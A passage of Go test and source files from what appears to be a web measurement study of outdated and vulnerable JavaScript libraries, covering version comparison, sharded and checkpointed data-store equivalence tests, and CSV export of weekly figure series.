			t.Errorf("Parse(%q) = parts %v pre %q, want %v %q", c.in, v.Parts, v.Pre, c.parts, c.pre)
		}
	}
}

func TestParseErrors(t *testing.T) {
	for _, in := range []string{"", "abc", "1..2", ".", "1.2.", "v", "-rc1", "1.2.x"} {
		if _, err := Parse(in); err == nil {
			t.Errorf("Parse(%q): expected error", in)
		}
	}
}

func TestCompare(t *testing.T) {
	cases := []struct {
		a, b string
		want int
	}{
		{"1.9", "1.9.0", 0},
		{"1.9.0", "1.9.1", -1},
		{"1.12.4", "1.9.1", 1},     // numeric, not lexical
		{"3.0.0-rc1", "3.0.0", -1}, // pre-release before release
		{"3.0.0-a", "3.0.0-b", -1},
		{"1.6.0.1", "1.6.0", 1},
		{"2.2", "2.2.4", -1},
		{"1.0.3", "1.0.3", 0},
		{"10.0", "9.9.9", 1},
	}
	for _, c := range cases {
		a, b := MustParse(c.a), MustParse(c.b)
		if got := a.Compare(b); got != c.want {
			t.Errorf("Compare(%s,%s) = %d, want %d", c.a, c.b, got, c.want)
		}
		if got := b.Compare(a); got != -c.want {
			t.Errorf("Compare(%s,%s) = %d, want %d", c.b, c.a, got, -c.want)
		}
	}
}

func TestAccessors(t *testing.T) {
	v := MustParse("1.12.4")
	if v.Major() != 1 || v.Minor() != 12 || v.Patch() != 4 {
		t.Errorf("accessors: got %d.%d.%d", v.Major(), v.Minor(), v.Patch())
	}
	w := MustParse("3")
	if w.Major() != 3 || w.Minor() != 0 || w.Patch() != 0 {
		t.Errorf("short accessors: got %d.%d.%d", w.Major(), w.Minor(), w.Patch())
	}
}

func TestStringRoundTrip(t *testing.T) {
	for _, s := range []string{"1.12.4", "2.2", "3", "1.6.0.1", "3.0.0-rc1"} {
		if got := MustParse(s).String(); got != s {
			t.Errorf("String round-trip: %q -> %q", s, got)
		}
	}
}

func TestCanonical(t *testing.T) {
	cases := map[string]string{
		"1.9":     "1.9.0",
		"3":       "3.0.0",
		"1.12.4":  "1.12.4",
		"1.6.0.1": "1.6.0.1",
		"2.0-rc1": "2.0.0-rc1",
		"v3.5.0":  "3.5.0",
	}
	for in, want := range cases {
		if got := MustParse(in).Canonical(); got != want {
			t.Errorf("Canonical(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestCanonicalEquivalence(t *testing.T) {
	a, b := MustParse("1.9"), MustParse("1.9.0")
	if a.Canonical() != b.Canonical() {
		t.Errorf("canonical forms differ for equal versions: %q vs %q", a.Canonical(), b.Canonical())
	}
	if !a.Equal(b) {
		t.Error("1.9 should equal 1.9.0")
	}
}

func TestSortAndMinMax(t *testing.T) {
	vs := []Version{MustParse("3.5.0"), MustParse("1.12.4"), MustParse("1.9"), MustParse("2.2.4"), MustParse("1.9.1")}
	Sort(vs)
	want := []string{"1.9", "1.12.4", "2.2.4", "3.5.0"}
	got := []string{vs[0].String(), vs[2].String(), vs[3].String(), vs[4].String()}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("Sort order[%d] = %s, want %s (full: %v)", i, got[i], want[i], vs)
		}
	}
	if Max(vs[0], vs[4]).String() != "3.5.0" {
		t.Error("Max wrong")
	}
	if Min(vs[0], vs[4]).String() != "1.9" {
		t.Error("Min wrong")
	}
}

func TestIsZero(t *testing.T) {
	var z Version
	if !z.IsZero() {
		t.Error("zero Version should report IsZero")
	}
	if MustParse("0").IsZero() {
		t.Error("parsed 0 is not the zero value")
	}
}

// randomVersion builds an arbitrary version from a rand source.
func randomVersion(r *rand.Rand) Version {
	n := 1 + r.Intn(4)
	parts := make([]int, n)
	for i := range parts {
		parts[i] = r.Intn(30)
	}
	pre := ""
	if r.Intn(5) == 0 {
		pre = string(rune('a' + r.Intn(3)))
	}
	return Version{Parts: parts, Pre: pre}
}

// Property: Compare is antisymmetric.
func TestQuickCompareAntisymmetric(t *testing.T) {
	f := func(seed int64) bool {
		r := rand.New(rand.NewSource(seed))
		a, b := randomVersion(r), randomVersion(r)
		return a.Compare(b) == -b.Compare(a)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

// Property: Compare is transitive over a sorted triple.
func TestQuickCompareTransitive(t *testing.T) {
	f := func(seed int64) bool {
		r := rand.New(rand.NewSource(seed))
		vs := []Version{randomVersion(r), randomVersion(r), randomVersion(r)}
		Sort(vs)
		return vs[0].Compare(vs[1]) <= 0 && vs[1].Compare(vs[2]) <= 0 && vs[0].Compare(vs[2]) <= 0
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

// Property: canonical form parses back to an equal version.
func TestQuickCanonicalRoundTrip(t *testing.T) {
	f := func(seed int64) bool {
		r := rand.New(rand.NewSource(seed))
		v := randomVersion(r)
		w, err := Parse(v.Canonical())
		return err == nil && v.Equal(w)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}
