package core

// Whole-pipeline shard equivalence: a sharded run must render a report that
// is byte-for-byte identical to the serial run of the same configuration.
// Every collector aggregate is an integer count keyed by week/library/
// domain, and all derived floats are computed at report time from merged
// integers, so equality holds exactly — not approximately.

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func reportOf(t *testing.T, res *Results) string {
	t.Helper()
	var b strings.Builder
	res.WriteReport(&b)
	return b.String()
}

func TestShardedDirectRunByteIdenticalReport(t *testing.T) {
	base := Config{Domains: 260, Weeks: 18, Seed: 12}
	serial, err := Run(context.Background(), base)
	if err != nil {
		t.Fatal(err)
	}
	want := reportOf(t, serial)
	if !strings.Contains(want, "Table 1:") {
		t.Fatal("serial report looks empty")
	}
	for _, shards := range []int{2, 4, 9} {
		cfg := base
		cfg.Shards = shards
		sharded, err := Run(context.Background(), cfg)
		if err != nil {
			t.Fatalf("shards=%d: %v", shards, err)
		}
		if got := reportOf(t, sharded); got != want {
			t.Errorf("shards=%d: report differs from serial run", shards)
		}
	}
}

func TestShardedCrawlRunByteIdenticalReport(t *testing.T) {
	base := Config{Domains: 120, Weeks: 8, Seed: 5, Mode: ModeCrawl, Workers: 16, SkipPoC: true}
	serial, err := Run(context.Background(), base)
	if err != nil {
		t.Fatal(err)
	}
	cfg := base
	cfg.Shards = 3
	sharded, err := Run(context.Background(), cfg)
	if err != nil {
		t.Fatal(err)
	}
	if reportOf(t, sharded) != reportOf(t, serial) {
		t.Error("sharded crawl report differs from serial crawl report")
	}
}

// TestShardedStoreRoundTrip checks the two store-facing halves of the
// sharded pipeline: a sharded run persists a complete observation file
// (rows may interleave across domains, but per-domain week order is kept),
// and a sharded replay of that file equals a serial replay byte-for-byte.
func TestShardedStoreRoundTrip(t *testing.T) {
	path := filepath.Join(t.TempDir(), "obs.jsonl.gz")
	cfg := Config{Domains: 130, Weeks: 10, Seed: 9, Shards: 3, StorePath: path, SkipPoC: true}
	if _, err := Run(context.Background(), cfg); err != nil {
		t.Fatal(err)
	}
	serial, err := RunFromStore(path, cfg.Weeks, cfg.Domains, 1)
	if err != nil {
		t.Fatal(err)
	}
	sharded, err := RunFromStore(path, cfg.Weeks, cfg.Domains, 4)
	if err != nil {
		t.Fatal(err)
	}
	if reportOf(t, sharded) != reportOf(t, serial) {
		t.Error("sharded replay report differs from serial replay")
	}
}

// TestRunReportsWriterCloseError is the regression test for the dropped
// Writer.Close error: the store writer buffers 64 KiB and gzips, so on a
// full disk the data loss only surfaces at Close — Run must return it.
func TestRunReportsWriterCloseError(t *testing.T) {
	if _, err := os.Stat("/dev/full"); err != nil {
		t.Skip("/dev/full not available")
	}
	cfg := Config{Domains: 30, Weeks: 3, Seed: 1, SkipPoC: true, StorePath: "/dev/full"}
	if _, err := Run(context.Background(), cfg); err == nil {
		t.Error("Run with an unflushable store must report the close error")
	}
}
