package core

// Whole-pipeline shard equivalence: a sharded run must render a report that
// is byte-for-byte identical to the serial run of the same configuration.
// Every collector aggregate is an integer count keyed by week/library/
// domain, and all derived floats are computed at report time from merged
// integers, so equality holds exactly — not approximately.

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func reportOf(t *testing.T, res *Results) string {
	t.Helper()
	var b strings.Builder
	res.WriteReport(&b)
	return b.String()
}

func TestShardedDirectRunByteIdenticalReport(t *testing.T) {
	base := Config{Domains: 260, Weeks: 18, Seed: 12}
	serial, err := Run(context.Background(), base)
	if err != nil {
		t.Fatal(err)
	}
	want := reportOf(t, serial)
	if !strings.Contains(want, "Table 1:") {
		t.Fatal("serial report looks empty")
	}
	for _, shards := range []int{2, 4, 9} {
		cfg := base
		cfg.Shards = shards
		sharded, err := Run(context.Background(), cfg)
		if err != nil {
			t.Fatalf("shards=%d: %v", shards, err)
		}
		if got := reportOf(t, sharded); got != want {
			t.Errorf("shards=%d: report differs from serial run", shards)
		}
	}
}

func TestShardedCrawlRunByteIdenticalReport(t *testing.T) {
	base := Config{Domains: 120, Weeks: 8, Seed: 5, Mode: ModeCrawl, Workers: 16, SkipPoC: true}
	serial, err := Run(context.Background(), base)
	if err != nil {
		t.Fatal(err)
	}
	cfg := base
	cfg.Shards = 3
	sharded, err := Run(context.Background(), cfg)
	if err != nil {
		t.Fatal(err)
	}
	if reportOf(t, sharded) != reportOf(t, serial) {
		t.Error("sharded crawl report differs from serial crawl report")
	}
}

// TestShardedStoreRoundTrip checks the two store-facing halves of the
// sharded pipeline: a sharded run persists a complete observation file
// (rows may interleave across domains, but per-domain week order is kept),
// and a sharded replay of that file equals a serial replay byte-for-byte.
func TestShardedStoreRoundTrip(t *testing.T) {
	path := filepath.Join(t.TempDir(), "obs.jsonl.gz")
	cfg := Config{Domains: 130, Weeks: 10, Seed: 9, Shards: 3, StorePath: path, SkipPoC: true}
	if _, err := Run(context.Background(), cfg); err != nil {
		t.Fatal(err)
	}
	serial, err := RunFromStore(path, cfg.Weeks, cfg.Domains, 1)
	if err != nil {
		t.Fatal(err)
	}
	sharded, err := RunFromStore(path, cfg.Weeks, cfg.Domains, 4)
	if err != nil {
		t.Fatal(err)
	}
	if reportOf(t, sharded) != reportOf(t, serial) {
		t.Error("sharded replay report differs from serial replay")
	}
}

// TestSegmentedStoreByteIdenticalReports is the tentpole equivalence
// test: a segmented store must replay to a byte-identical report versus
// the single-file store of the same run, at every segment count, and at
// replay shard counts that hit all three replay shapes — serial, the
// aligned one-decoder-per-segment fast path (shards == segments), and
// the misaligned re-routing path (shards != segments).
func TestSegmentedStoreByteIdenticalReports(t *testing.T) {
	dir := t.TempDir()
	base := Config{Domains: 180, Weeks: 12, Seed: 21, SkipPoC: true}

	single := filepath.Join(dir, "obs.jsonl.gz")
	cfg := base
	cfg.StorePath = single
	if _, err := Run(context.Background(), cfg); err != nil {
		t.Fatal(err)
	}
	ref, err := RunFromStore(single, base.Weeks, base.Domains, 1)
	if err != nil {
		t.Fatal(err)
	}
	want := reportOf(t, ref)
	if !strings.Contains(want, "Table 1:") {
		t.Fatal("reference report looks empty")
	}

	for _, segments := range []int{1, 2, 4, 8} {
		segDir := filepath.Join(dir, fmt.Sprintf("store-%d", segments))
		cfg := base
		cfg.StorePath = segDir
		cfg.StoreSegments = segments
		if _, err := Run(context.Background(), cfg); err != nil {
			t.Fatalf("segments=%d: %v", segments, err)
		}
		for _, shards := range []int{1, 2, segments, segments + 3} {
			res, err := RunFromStore(segDir, base.Weeks, base.Domains, shards)
			if err != nil {
				t.Fatalf("segments=%d shards=%d: %v", segments, shards, err)
			}
			if got := reportOf(t, res); got != want {
				t.Errorf("segments=%d shards=%d: report differs from single-file replay",
					segments, shards)
			}
		}
	}
}

// TestSegmentedCrawlStoreRoundTrip drives the segmented writer through
// the sharded crawl path — concurrent writers, memoized fingerprinting —
// and checks the archive replays identically to a single-file archive of
// the same crawl.
func TestSegmentedCrawlStoreRoundTrip(t *testing.T) {
	dir := t.TempDir()
	base := Config{Domains: 90, Weeks: 6, Seed: 4, Mode: ModeCrawl,
		Workers: 16, Shards: 3, SkipPoC: true}

	single := filepath.Join(dir, "obs.jsonl.gz")
	cfg := base
	cfg.StorePath = single
	if _, err := Run(context.Background(), cfg); err != nil {
		t.Fatal(err)
	}
	segDir := filepath.Join(dir, "obs.store")
	cfg = base
	cfg.StorePath = segDir
	cfg.StoreSegments = 3
	if _, err := Run(context.Background(), cfg); err != nil {
		t.Fatal(err)
	}
	fromSingle, err := RunFromStore(single, base.Weeks, base.Domains, 1)
	if err != nil {
		t.Fatal(err)
	}
	fromSeg, err := RunFromStore(segDir, base.Weeks, base.Domains, 3)
	if err != nil {
		t.Fatal(err)
	}
	if reportOf(t, fromSeg) != reportOf(t, fromSingle) {
		t.Error("segmented crawl archive replays differently from single-file archive")
	}
}

// TestCrawlMemoByteIdenticalReport pins that the fingerprint memo cache
// is semantics-preserving end-to-end: a crawl with the cache disabled
// must render the same report as one with it enabled (both serial and
// sharded).
func TestCrawlMemoByteIdenticalReport(t *testing.T) {
	base := Config{Domains: 100, Weeks: 7, Seed: 6, Mode: ModeCrawl,
		Workers: 16, SkipPoC: true}
	noCache := base
	noCache.FingerprintCacheSize = -1
	plain, err := Run(context.Background(), noCache)
	if err != nil {
		t.Fatal(err)
	}
	want := reportOf(t, plain)
	for _, shards := range []int{1, 4} {
		cached := base
		cached.Shards = shards
		res, err := Run(context.Background(), cached)
		if err != nil {
			t.Fatalf("shards=%d: %v", shards, err)
		}
		if got := reportOf(t, res); got != want {
			t.Errorf("shards=%d: memoized crawl report differs from uncached crawl", shards)
		}
	}
}

// TestRunReportsWriterCloseError is the regression test for the dropped
// Writer.Close error: the store writer buffers 64 KiB and gzips, so on a
// full disk the data loss only surfaces at Close — Run must return it.
func TestRunReportsWriterCloseError(t *testing.T) {
	if _, err := os.Stat("/dev/full"); err != nil {
		t.Skip("/dev/full not available")
	}
	cfg := Config{Domains: 30, Weeks: 3, Seed: 1, SkipPoC: true, StorePath: "/dev/full"}
	if _, err := Run(context.Background(), cfg); err == nil {
		t.Error("Run with an unflushable store must report the close error")
	}
}
