package core

// Crash/resume equivalence: killing a checkpointed run after week k and
// resuming it must produce a report byte-identical to an uninterrupted run
// of the same configuration — for k early, middle, and last-but-one, on
// every collection path (direct/crawl × serial/sharded). The "crash" is a
// context cancellation fired the moment week k commits, plus deliberate
// torn-tail garbage appended to a segment, so the resume also proves the
// committed-offset amputation. The reference run is NOT checkpointed,
// which simultaneously proves journaling changes no observation.

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"clientres/internal/store"
)

// crashAfter returns a Progress hook that cancels the run's context as soon
// as the k-th week commit is reported.
func crashAfter(k int, cancel context.CancelFunc) func(string, ...any) {
	var committed atomic.Int32
	return func(format string, _ ...any) {
		if strings.Contains(format, "committed") && int(committed.Add(1)) == k {
			cancel()
		}
	}
}

func TestResumeCrashEquivalence(t *testing.T) {
	cases := []struct {
		name string
		base Config
	}{
		{"direct-serial", Config{Domains: 60, Weeks: 8, Seed: 12, StoreSegments: 3, SkipPoC: true}},
		{"direct-sharded", Config{Domains: 60, Weeks: 8, Seed: 12, Shards: 3, StoreSegments: 3, SkipPoC: true}},
		{"crawl-serial", Config{Domains: 40, Weeks: 6, Seed: 5, Mode: ModeCrawl, Workers: 16, StoreSegments: 2, SkipPoC: true}},
		{"crawl-sharded", Config{Domains: 40, Weeks: 6, Seed: 5, Mode: ModeCrawl, Workers: 16, Shards: 2, StoreSegments: 2, SkipPoC: true}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			ref, err := Run(context.Background(), tc.base)
			if err != nil {
				t.Fatal(err)
			}
			want := reportOf(t, ref)
			if !strings.Contains(want, "Table 1:") {
				t.Fatal("reference report looks empty")
			}
			for _, k := range []int{1, tc.base.Weeks / 2, tc.base.Weeks - 1} {
				dir := filepath.Join(t.TempDir(), "store")
				cfg := tc.base
				cfg.StorePath = dir
				cfg.Checkpoint = true
				ctx, cancel := context.WithCancel(context.Background())
				cfg.Progress = crashAfter(k, cancel)
				if _, err := Run(ctx, cfg); err == nil {
					t.Fatalf("k=%d: crashed run returned no error", k)
				}
				cancel()
				if store.IsSegmented(dir) {
					t.Fatalf("k=%d: crashed run left a manifest — reads as complete", k)
				}
				ck, err := store.ReadCheckpoint(dir)
				if err != nil {
					t.Fatalf("k=%d: %v", k, err)
				}
				if ck.CommittedWeeks != k {
					t.Fatalf("k=%d: checkpoint committed %d weeks", k, ck.CommittedWeeks)
				}
				// Worst-case torn tail: garbage past the committed offset.
				f, err := os.OpenFile(store.SegmentPath(dir, 0), os.O_WRONLY|os.O_APPEND, 0)
				if err != nil {
					t.Fatal(err)
				}
				if _, err := f.Write([]byte("torn tail \x1f\x8b garbage")); err != nil {
					t.Fatal(err)
				}
				_ = f.Close()

				resumed := tc.base
				resumed.StorePath = dir
				resumed.Resume = true
				res, err := Run(context.Background(), resumed)
				if err != nil {
					t.Fatalf("k=%d: resume: %v", k, err)
				}
				if got := reportOf(t, res); got != want {
					t.Errorf("k=%d: resumed report differs from uninterrupted run", k)
				}
				if _, err := store.Verify(dir); err != nil {
					t.Errorf("k=%d: resumed store fails verify: %v", k, err)
				}
			}
		})
	}
}

// TestResumeCompletedRun: resuming a run whose checkpoint already covers
// every week re-derives the full result from the store without collecting
// anything, and the report still matches.
func TestResumeCompletedRun(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "store")
	base := Config{Domains: 50, Weeks: 5, Seed: 7, Shards: 2, StoreSegments: 2, SkipPoC: true}
	cfg := base
	cfg.StorePath = dir
	cfg.Checkpoint = true
	ref, err := Run(context.Background(), cfg)
	if err != nil {
		t.Fatal(err)
	}
	resumed := base
	resumed.StorePath = dir
	resumed.Resume = true
	res, err := Run(context.Background(), resumed)
	if err != nil {
		t.Fatal(err)
	}
	if reportOf(t, res) != reportOf(t, ref) {
		t.Error("resume of a completed run changed the report")
	}
	if _, err := store.Verify(dir); err != nil {
		t.Errorf("store after completed-run resume fails verify: %v", err)
	}
}

// TestResumeRefusesForeignCheckpoint: a journal written under one study
// configuration must not resume under another.
func TestResumeRefusesForeignCheckpoint(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "store")
	cfg := Config{Domains: 30, Weeks: 4, Seed: 3, StorePath: dir, StoreSegments: 2,
		Checkpoint: true, SkipPoC: true}
	if _, err := Run(context.Background(), cfg); err != nil {
		t.Fatal(err)
	}
	other := cfg
	other.Checkpoint = false
	other.Resume = true
	other.Seed = 4
	if _, err := Run(context.Background(), other); err == nil ||
		!strings.Contains(err.Error(), "different run") {
		t.Fatalf("resume under a different seed: %v", err)
	}
}

// TestCheckpointedStoreReplaysIdentically: the store a crashed-and-resumed
// run leaves behind replays to the same report as the store of an
// uninterrupted checkpointed run.
func TestCheckpointedStoreReplaysIdentically(t *testing.T) {
	base := Config{Domains: 50, Weeks: 6, Seed: 9, Shards: 2, StoreSegments: 2, SkipPoC: true}
	refDir := filepath.Join(t.TempDir(), "ref")
	cfg := base
	cfg.StorePath = refDir
	cfg.Checkpoint = true
	if _, err := Run(context.Background(), cfg); err != nil {
		t.Fatal(err)
	}

	dir := filepath.Join(t.TempDir(), "crashed")
	crash := base
	crash.StorePath = dir
	crash.Checkpoint = true
	ctx, cancel := context.WithCancel(context.Background())
	crash.Progress = crashAfter(3, cancel)
	if _, err := Run(ctx, crash); err == nil {
		t.Fatal("crashed run returned no error")
	}
	cancel()
	resumed := base
	resumed.StorePath = dir
	resumed.Resume = true
	if _, err := Run(context.Background(), resumed); err != nil {
		t.Fatal(err)
	}

	want, err := RunFromStore(refDir, base.Weeks, base.Domains, 1)
	if err != nil {
		t.Fatal(err)
	}
	got, err := RunFromStore(dir, base.Weeks, base.Domains, 2)
	if err != nil {
		t.Fatal(err)
	}
	if reportOf(t, got) != reportOf(t, want) {
		t.Error("resumed store replays to a different report")
	}
}
