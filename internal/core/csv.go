package core

import (
	"fmt"
	"os"
	"path/filepath"
	"strconv"

	"clientres/internal/analysis"
	"clientres/internal/report"
	"clientres/internal/vulndb"
)

// WriteCSVDir exports every figure's full weekly series as CSV files into
// dir (created if missing) — the machine-readable companion to WriteReport,
// suitable for external plotting of the paper's figures at full resolution.
func (r *Results) WriteCSVDir(dir string) error {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return err
	}
	writers := []struct {
		name string
		fn   func() ([]string, [][]string)
	}{
		{"figure2a_collection.csv", r.csvCollection},
		{"figure2b_resources.csv", r.csvResources},
		{"figure3_library_usage.csv", r.csvLibraryUsage},
		{"figure5_affected_series.csv", r.csvAffected},
		{"figure7_jquery_versions.csv", r.csvJQueryVersions},
		{"figure8_flash.csv", r.csvFlash},
		{"figure9_wordpress.csv", r.csvWordPress},
		{"figure10_sri.csv", r.csvSRI},
		{"figure11_scriptaccess.csv", r.csvScriptAccess},
		{"figure12_cdf.csv", r.csvCDF},
	}
	for _, wr := range writers {
		headers, rows := wr.fn()
		if err := writeCSVFile(filepath.Join(dir, wr.name), headers, rows); err != nil {
			return fmt.Errorf("core: writing %s: %w", wr.name, err)
		}
	}
	return nil
}

func writeCSVFile(path string, headers []string, rows [][]string) error {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	report.CSV(f, headers, rows)
	return f.Close()
}

// weekColumn renders the date column shared by all series exports.
func (r *Results) weekColumn() []string {
	out := make([]string, r.Weeks)
	for w := 0; w < r.Weeks; w++ {
		out[w] = analysis.WeekDate(w).Format("2006-01-02")
	}
	return out
}

func (r *Results) csvCollection() ([]string, [][]string) {
	dates := r.weekColumn()
	attempted := r.Coll.AttemptedSeries()
	collected := r.Coll.CollectedSeries()
	rows := make([][]string, r.Weeks)
	for w := range rows {
		rows[w] = []string{dates[w], strconv.Itoa(attempted[w]), strconv.Itoa(collected[w])}
	}
	return []string{"date", "attempted", "collected"}, rows
}

func (r *Results) csvResources() ([]string, [][]string) {
	dates := r.weekColumn()
	shares := r.Coll.ResourceShares()
	headers := []string{"date"}
	for _, s := range shares {
		headers = append(headers, s.Resource)
	}
	rows := make([][]string, r.Weeks)
	for w := range rows {
		row := []string{dates[w]}
		for _, s := range shares {
			row = append(row, fmt.Sprintf("%.4f", s.Weekly[w]))
		}
		rows[w] = row
	}
	return headers, rows
}

func (r *Results) csvLibraryUsage() ([]string, [][]string) {
	dates := r.weekColumn()
	headers := []string{"date"}
	var series [][]float64
	for _, lib := range vulndb.Libraries() {
		headers = append(headers, lib.Slug)
		series = append(series, r.Libs.UsageSeries(lib.Slug))
	}
	rows := make([][]string, r.Weeks)
	for w := range rows {
		row := []string{dates[w]}
		for _, s := range series {
			row = append(row, fmt.Sprintf("%.4f", s[w]))
		}
		rows[w] = row
	}
	return headers, rows
}

func (r *Results) csvAffected() ([]string, [][]string) {
	dates := r.weekColumn()
	headers := []string{"date"}
	type pair struct{ cve, tvv []int }
	var series []pair
	for _, adv := range vulndb.Advisories() {
		c, t := r.Vuln.AdvisorySeries(adv.ID)
		series = append(series, pair{c, t})
		headers = append(headers, adv.ID+"_cve", adv.ID+"_tvv")
	}
	rows := make([][]string, r.Weeks)
	for w := range rows {
		row := []string{dates[w]}
		for _, p := range series {
			row = append(row, strconv.Itoa(p.cve[w]), strconv.Itoa(p.tvv[w]))
		}
		rows[w] = row
	}
	return headers, rows
}

func (r *Results) csvJQueryVersions() ([]string, [][]string) {
	dates := r.weekColumn()
	versions := []string{"1.12.4", "1.11.3", "3.4.1", "3.5.0", "3.5.1", "3.6.0"}
	headers := []string{"date"}
	var all, wp [][]int
	for _, v := range versions {
		headers = append(headers, "v"+v, "v"+v+"_wordpress")
		all = append(all, r.Libs.VersionSeries("jquery", v))
		wp = append(wp, r.Libs.VersionSeriesWordPress("jquery", v))
	}
	rows := make([][]string, r.Weeks)
	for w := range rows {
		row := []string{dates[w]}
		for i := range versions {
			row = append(row, strconv.Itoa(all[i][w]), strconv.Itoa(wp[i][w]))
		}
		rows[w] = row
	}
	return headers, rows
}

func (r *Results) csvFlash() ([]string, [][]string) {
	dates := r.weekColumn()
	all, top10k, top1k := r.Flash.UsageSeries()
	rows := make([][]string, r.Weeks)
	for w := range rows {
		rows[w] = []string{dates[w], strconv.Itoa(all[w]),
			strconv.Itoa(top10k[w]), strconv.Itoa(top1k[w])}
	}
	return []string{"date", "all", "top1pct", "top01pct"}, rows
}

func (r *Results) csvWordPress() ([]string, [][]string) {
	dates := r.weekColumn()
	all, wp := r.WordPress.UsageSeries()
	rows := make([][]string, r.Weeks)
	for w := range rows {
		rows[w] = []string{dates[w], strconv.Itoa(all[w]), strconv.Itoa(wp[w])}
	}
	return []string{"date", "all_sites", "wordpress_sites"}, rows
}

func (r *Results) csvSRI() ([]string, [][]string) {
	dates := r.weekColumn()
	missing, covered := r.SRI.SRISeries()
	rows := make([][]string, r.Weeks)
	for w := range rows {
		rows[w] = []string{dates[w], strconv.Itoa(missing[w]), strconv.Itoa(covered[w])}
	}
	return []string{"date", "missing_integrity", "fully_covered"}, rows
}

func (r *Results) csvScriptAccess() ([]string, [][]string) {
	dates := r.weekColumn()
	flash, param, always := r.Flash.ScriptAccessSeries()
	rows := make([][]string, r.Weeks)
	for w := range rows {
		rows[w] = []string{dates[w], strconv.Itoa(flash[w]),
			strconv.Itoa(param[w]), strconv.Itoa(always[w])}
	}
	return []string{"date", "flash_sites", "allowscriptaccess", "always"}, rows
}

func (r *Results) csvCDF() ([]string, [][]string) {
	cve := r.Vuln.VulnCDF(false)
	tvv := r.Vuln.VulnCDF(true)
	tvvAt := map[int]float64{}
	for _, p := range tvv {
		tvvAt[p.Count] = p.CDF
	}
	var rows [][]string
	last := 0.0
	for _, p := range cve {
		t, ok := tvvAt[p.Count]
		if !ok {
			t = last
		}
		last = t
		rows = append(rows, []string{strconv.Itoa(p.Count),
			fmt.Sprintf("%.6f", p.CDF), fmt.Sprintf("%.6f", t)})
	}
	return []string{"vuln_count", "cdf_cve", "cdf_tvv"}, rows
}
