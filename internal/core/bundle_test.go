package core

import (
	"context"
	"path/filepath"
	"reflect"
	"testing"

	"clientres/internal/store"
	"clientres/internal/webgen"
)

// bundledCfg is the equivalence-friendly bundler configuration: banners
// always survive, so every top-15 library — including the banner-only ones —
// is recoverable from bundle content and the crawl path can match ground
// truth exactly. (Banner-stripping configurations diverge by design: that
// gap is the accuracy harness's subject, not an equivalence bug.)
func bundledCfg() Config {
	return Config{
		Domains: 180, Weeks: 10, Seed: 8, SkipPoC: true,
		Bundling: webgen.Bundling{Fraction: 0.6, MinifyP: 0.5, BannerP: 1, SourceMapP: 0.3},
	}
}

// TestCrawlDirectEquivalenceBundled extends the pipeline-equivalence
// property to bundled populations: a real crawl with BundleScan — fetching
// script bodies over HTTP and scanning them for signatures — must aggregate
// identically to direct ground-truth collection.
func TestCrawlDirectEquivalenceBundled(t *testing.T) {
	cfg := bundledCfg()
	direct, err := Run(context.Background(), cfg)
	if err != nil {
		t.Fatal(err)
	}
	cfg.Mode = ModeCrawl
	cfg.Workers = 32
	cfg.BundleScan = true
	crawled, err := Run(context.Background(), cfg)
	if err != nil {
		t.Fatal(err)
	}

	if !reflect.DeepEqual(direct.Coll.CollectedSeries(), crawled.Coll.CollectedSeries()) {
		t.Errorf("collected series differ:\n direct %v\n crawled %v",
			direct.Coll.CollectedSeries(), crawled.Coll.CollectedSeries())
	}
	if !reflect.DeepEqual(direct.Libs.Table1(), crawled.Libs.Table1()) {
		t.Error("Table 1 differs between bundled crawl and direct collection")
	}
	for _, useTVV := range []bool{false, true} {
		d := direct.Vuln.MeanVulnerableShare(useTVV)
		c := crawled.Vuln.MeanVulnerableShare(useTVV)
		if d != c {
			t.Errorf("vulnerable share (tvv=%v): direct %.6f crawled %.6f", useTVV, d, c)
		}
	}
	if direct.SRI.MissingSRIShare() != crawled.SRI.MissingSRIShare() {
		t.Error("SRI share differs")
	}
	dDelay := direct.Delay.Result(false, false)
	cDelay := crawled.Delay.Result(false, false)
	if dDelay.Updated != cDelay.Updated || dDelay.MeanDays != cDelay.MeanDays {
		t.Errorf("delay results differ: direct %+v crawled %+v", dDelay, cDelay)
	}
}

// TestBundledCrawlWithoutScanMissesVersions is the blind spot end-to-end:
// the same bundled crawl WITHOUT BundleScan must close strictly fewer
// update windows than direct truth — bundles hide the versions the delay
// analysis needs — while the BundleScan run above matches it exactly.
func TestBundledCrawlWithoutScanMissesVersions(t *testing.T) {
	cfg := bundledCfg()
	direct, err := Run(context.Background(), cfg)
	if err != nil {
		t.Fatal(err)
	}
	cfg.Mode = ModeCrawl
	cfg.Workers = 32
	blind, err := Run(context.Background(), cfg) // BundleScan off
	if err != nil {
		t.Fatal(err)
	}
	d := direct.Delay.Result(false, false)
	b := blind.Delay.Result(false, false)
	if b.Updated >= d.Updated {
		t.Errorf("URL-only crawl closed %d update windows, direct truth %d — bundles should hide versions",
			b.Updated, d.Updated)
	}
}

// TestBundledCrawlPersistsAndReplays: store-replay of a bundled BundleScan
// crawl reproduces the live aggregates, and the Sig provenance flag
// round-trips through the store.
func TestBundledCrawlPersistsAndReplays(t *testing.T) {
	path := filepath.Join(t.TempDir(), "bundled.jsonl.gz")
	cfg := bundledCfg()
	cfg.Mode = ModeCrawl
	cfg.Workers = 32
	cfg.BundleScan = true
	cfg.StorePath = path
	live, err := Run(context.Background(), cfg)
	if err != nil {
		t.Fatal(err)
	}
	sigRecs, urlRecs := 0, 0
	if err := store.ForEach(path, func(obs store.Observation) error {
		for _, l := range obs.Libs {
			if l.Sig {
				sigRecs++
			} else {
				urlRecs++
			}
		}
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	if sigRecs == 0 {
		t.Error("no signature-recovered records stored — bundles never scanned?")
	}
	if urlRecs == 0 {
		t.Error("no URL-detected records stored")
	}
	replayed, err := RunFromStore(path, cfg.Weeks, cfg.Domains, 1)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(live.Libs.Table1(), replayed.Libs.Table1()) {
